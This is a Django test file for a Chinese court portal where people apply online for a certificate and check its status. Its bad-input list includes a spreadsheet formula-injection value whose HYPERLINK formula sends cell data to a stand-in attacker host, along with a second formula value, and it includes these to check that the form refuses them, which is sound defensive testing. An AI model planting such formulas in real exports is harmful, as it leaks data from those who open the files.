"""Applying online for a certificate, and following the application (public side)."""

import io
import logging

import pytest
from bs4 import BeautifulSoup
from django.conf import settings
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import override_settings

from bench.sample_application import ID_NUMBER, PHONE, certificate_application
from intake.models import Application, ApplicationEvent, EvidenceFile
from portal.models import CauseOfAction, Court

pytestmark = pytest.mark.django_db

APPLY = "/apply/certificate/"
STATUS = "/apply/status/"
CREDIT_CODE = "91350100M000100Y43"
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64


def receipt(name="receipt.pdf", content=PDF, content_type="application/pdf"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def form_data(**overrides):
    """The sample certificate application (bench/sample_application.py) as posted from the
    form, with a receipt and both consents; a field overridden with None is left out."""
    return certificate_application(
        Court.objects.get(code="黑0902").pk,
        CauseOfAction.objects.get(name="民间借贷纠纷").pk,
        **{"evidence": [receipt()], "consent_list": "on", **overrides},
    )


def field_errors(response, name):
    soup = BeautifulSoup(response.content, "html.parser")
    field = soup.find(attrs={"name": name})
    container = field.find_parent(class_="field") if field else None
    return [p.get_text(strip=True) for p in container.select(".error-text")] if container else []


def private_files():
    root = settings.PRIVATE_MEDIA_ROOT
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


def test_a_valid_application_gives_a_tracking_number_and_a_code_once(
    client, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(APPLY, form_data())
    assert response.status_code == 200
    soup = BeautifulSoup(response.content, "html.parser")
    number = soup.select_one("[data-tracking-number]").get_text(strip=True)
    code = soup.select_one("[data-access-code]").get_text(strip=True)
    application = Application.objects.get(tracking_number=number)
    assert application.case_number == "（2025）黑0902民初123号"
    assert application.check_access_code(code) and code not in application.access_code_hash
    assert application.consents_to_list and application.consented_processing_at
    assert [e.action for e in application.events.all()] == ["submitted", "notified"]
    # The code reaches the applicant by email (console backend in development).
    assert len(mail.outbox) == 1 and code in mail.outbox[0].body and number in mail.outbox[0].subject
    evidence = EvidenceFile.objects.get(application=application)
    assert evidence.content_type == "application/pdf" and evidence.size == len(PDF)
    stored = settings.PRIVATE_MEDIA_ROOT / evidence.file.name
    assert stored.read_bytes() == PDF
    assert not str(stored).startswith(str(settings.MEDIA_ROOT) + "/")


def test_id_and_phone_numbers_are_encrypted_at_rest(client):
    client.post(APPLY, form_data())
    application = Application.objects.get()
    assert application.id_number == ID_NUMBER and application.phone == PHONE
    with connection.cursor() as cursor:
        cursor.execute("SELECT * FROM intake_application")
        raw = " ".join(str(value) for value in cursor.fetchone())
    assert ID_NUMBER not in raw and PHONE not in raw and "0519491231" not in raw
    assert application.masked_id_number == "1101**********002X"


def test_an_organisation_applies_with_its_credit_code(client):
    response = client.post(
        APPLY,
        form_data(
            defendant_kind="organisation",
            defendant_name="某建设集团有限公司",
            applicant_kind="organisation",
            applicant_name="某建设集团有限公司",
            id_number=CREDIT_CODE.lower(),
            handler_name="陈某",
        ),
    )
    assert response.status_code == 200 and "申请已提交" in response.content.decode()
    assert Application.objects.get().id_number == CREDIT_CODE


BAD_INPUTS = [
    ("id_number", {"id_number": "110105194912310021"}, "校验位不正确"),
    ("id_number", {"applicant_kind": "organisation", "id_number": "91350100M000100Y44"}, "校验位不正确"),
    ("performed_on", {"performed_on": "2099-01-01"}, "不能晚于今天"),
    ("performed_on", {"performed_on": "2024-12-31", "document_date": "2024-12-01"}, "早于案件收案年度"),
    ("performed_on", {"performed_on": "2025-06-01"}, "不能早于法律文书制作日期"),
    ("document_date", {"document_date": "2099-01-01", "performed_on": "2025-06-18"}, "不能晚于今天"),
    ("case_number", {"case_number": "（2025）黑0903民初123号"}, "与所选法院"),
    ("case_number", {"case_number": "（2025）黑0902民X123号"}, "案件类型"),
    ("plaintiff_name", {"plaintiff_name": ""}, "请填写原告"),
    ("defendant_name", {"defendant_name": "··"}, "请填写名称"),
    # Names reach the agencies' spreadsheets: one that Excel would run is refused.
    (
        "defendant_name",
        {"defendant_name": '=HYPERLINK("http://evil.example/?x="&A2,"点击查看")'},
        "不能以 = + - @ 开头",
    ),
    ("plaintiff_name", {"plaintiff_name": "@SUM(1+1)*cmd"}, "不能以 = + - @ 开头"),
    ("phone", {"phone": "1234567"}, "手机号码应为 11 位数字"),
    # Longer than the column (254): the form field alone would pass 320 (found by tests/fuzz).
    ("email", {"email": "a" * 250 + "@example.com"}, "电子邮箱过长"),
    (
        "evidence",
        {"evidence": [receipt("receipt.pdf", b"MZ\x90\x00" + b"\x00" * 200)]},
        "不是 PDF、JPG 或 PNG",
    ),
    ("evidence", {"evidence": [receipt() for _ in range(6)]}, "最多上传 5 个文件"),
    ("evidence", {"evidence": None}, "请上传付款凭证"),
    ("consent_processing", {"consent_processing": None}, "须同意处理个人信息"),
]


@pytest.mark.parametrize(("field", "overrides", "message"), BAD_INPUTS)
def test_bad_input_is_named_next_to_the_field_and_nothing_is_stored(client, field, overrides, message):
    response = client.post(APPLY, form_data(**overrides))
    assert response.status_code == 200
    assert any(message in error for error in field_errors(response, field)), field_errors(response, field)
    soup = BeautifulSoup(response.content, "html.parser")
    # The rest of the form is kept.
    assert soup.find("input", attrs={"name": "applicant_name"})["value"] == "杨某"
    assert not Application.objects.exists()
    assert not EvidenceFile.objects.exists() and private_files() == []


@pytest.mark.parametrize("megabytes", [10, 50])
def test_a_file_over_10_mb_is_refused(client, megabytes):
    big = receipt(content=PDF + b"0" * (megabytes * 1024 * 1024))
    response = client.post(APPLY, form_data(evidence=[big]))
    assert any("超过 10MB" in error for error in field_errors(response, "evidence"))
    assert not Application.objects.exists() and private_files() == []


def test_a_png_receipt_with_a_pdf_name_is_stored_as_png(client):
    client.post(APPLY, form_data(evidence=[receipt("凭证.pdf", PNG, "application/pdf")]))
    assert EvidenceFile.objects.get().content_type == "image/png"


def test_a_second_pending_application_for_the_same_case_and_applicant_is_refused(client):
    client.post(APPLY, form_data())
    response = client.post(APPLY, form_data(evidence=[receipt()]))
    assert "请勿重复提交" in response.content.decode()
    assert Application.objects.count() == 1


def test_a_failed_notification_loses_no_application(client, django_capture_on_commit_callbacks, caplog):
    with (
        override_settings(EMAIL_BACKEND="tests.intake.broken_mail.BrokenBackend"),
        django_capture_on_commit_callbacks(execute=True),
        caplog.at_level(logging.INFO),
    ):
        response = client.post(APPLY, form_data())
    assert response.status_code == 200 and "申请已提交" in response.content.decode()
    application = Application.objects.get()
    assert application.notified_at is None
    assert [e.action for e in application.events.all()] == ["submitted"]
    assert application.tracking_number in caplog.text
    for secret in (ID_NUMBER, PHONE, "yang@example.com"):
        assert secret not in caplog.text


def test_a_failed_notification_is_sent_by_the_retry_command(client, django_capture_on_commit_callbacks):
    from django.core.management import CommandError, call_command

    with (
        override_settings(EMAIL_BACKEND="tests.intake.broken_mail.BrokenBackend"),
        django_capture_on_commit_callbacks(execute=True),
    ):
        response = client.post(APPLY, form_data())
    soup = BeautifulSoup(response.content, "html.parser")
    code = soup.select_one("[data-access-code]").get_text(strip=True)
    application = Application.objects.get()
    # Kept for the retry, but not readable in the database.
    assert application.pending_notice_encrypted and code not in application.pending_notice_encrypted

    # Still down: the command says so and exits non-zero, nothing is lost.
    with (
        override_settings(EMAIL_BACKEND="tests.intake.broken_mail.BrokenBackend"),
        pytest.raises(CommandError, match="1 条通知仍未发送成功"),
    ):
        call_command("retry_notifications", older_than=0, stdout=io.StringIO())
    assert Application.objects.get().pending_notice_encrypted

    out = io.StringIO()
    call_command("retry_notifications", older_than=0, stdout=out)
    assert "已重新发送 1 条通知" in out.getvalue()
    assert len(mail.outbox) == 1 and code in mail.outbox[0].body
    application.refresh_from_db()
    assert application.notified_at is not None and application.pending_notice_encrypted == ""
    assert [e.action for e in application.events.all()] == ["submitted", "notified"]

    # Nothing is sent twice.
    call_command("retry_notifications", older_than=0, stdout=io.StringIO())
    assert len(mail.outbox) == 1


def test_a_fresh_application_is_left_to_its_own_request(client):
    with override_settings(EMAIL_BACKEND="tests.intake.broken_mail.BrokenBackend"):
        client.post(APPLY, form_data())  # on_commit does not run inside the test transaction
    from django.core.management import call_command

    out = io.StringIO()
    call_command("retry_notifications", stdout=out)  # default: only older than 5 minutes
    assert "已重新发送 0 条通知" in out.getvalue() and mail.outbox == []


def test_without_an_email_the_code_is_not_kept(client, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        client.post(APPLY, form_data(email=""))
    application = Application.objects.get()
    assert application.pending_notice_encrypted == "" and application.notified_at is None


def submitted(client):
    response = client.post(APPLY, form_data())
    soup = BeautifulSoup(response.content, "html.parser")
    return (
        soup.select_one("[data-tracking-number]").get_text(strip=True),
        soup.select_one("[data-access-code]").get_text(strip=True),
    )


def test_status_needs_the_matching_code(client):
    number, code = submitted(client)
    wrong = client.post(STATUS, {"tracking_number": number, "access_code": "WRONG123"})
    assert "受理编号或查询码不正确" in wrong.content.decode()
    assert (
        "民间借贷" not in wrong.content.decode() and "（2025）黑0902民初123号" not in wrong.content.decode()
    )
    right = client.post(STATUS, {"tracking_number": number.lower(), "access_code": code.lower()})
    body = right.content.decode()
    assert "已提交，待审查" in body and "（2025）黑0902民初123号" in body and "提交申请" in body
    assert ID_NUMBER not in body and PHONE not in body


@pytest.mark.parametrize("url", [STATUS, "/apply/status/certificate.pdf", "/apply/status/decision.pdf"])
def test_status_post_without_form_fields_says_what_is_missing(client, url):
    """A POST whose body holds no form fields (JSON, plain text) showed the empty form with
    no message (a 400 without a word for the downloads)."""
    response = client.generic("POST", url, b'{"tracking_number": "x"}', content_type="application/json")
    body = response.content.decode()
    assert response.status_code in (200, 400)
    assert "请填写受理编号" in body and "请填写查询码" in body


def test_status_attempts_are_throttled(client):
    from django.core.cache import cache

    cache.clear()
    number, code = submitted(client)
    for _ in range(10):
        client.post(STATUS, {"tracking_number": number, "access_code": "WRONG123"})
    blocked = client.post(STATUS, {"tracking_number": number, "access_code": code})
    assert blocked.status_code == 429
    assert "查询次数过多" in blocked.content.decode()
    cache.clear()


def test_the_audit_trail_is_append_only(client):
    from django.core.exceptions import ValidationError

    client.post(APPLY, form_data())
    event = ApplicationEvent.objects.get()
    event.note = "改写"
    with pytest.raises(ValidationError):
        event.save()
    with pytest.raises(ValidationError):
        event.delete()


def test_the_form_page_is_in_chinese_with_labels(client):
    response = client.get(APPLY)
    soup = BeautifulSoup(response.content, "html.parser")
    for name in ("case_number", "id_number", "phone", "performed_on", "evidence"):
        field = soup.find(attrs={"name": name})
        assert soup.find("label", attrs={"for": field["id"]}), name
    assert soup.find("progress")  # the upload progress indicator
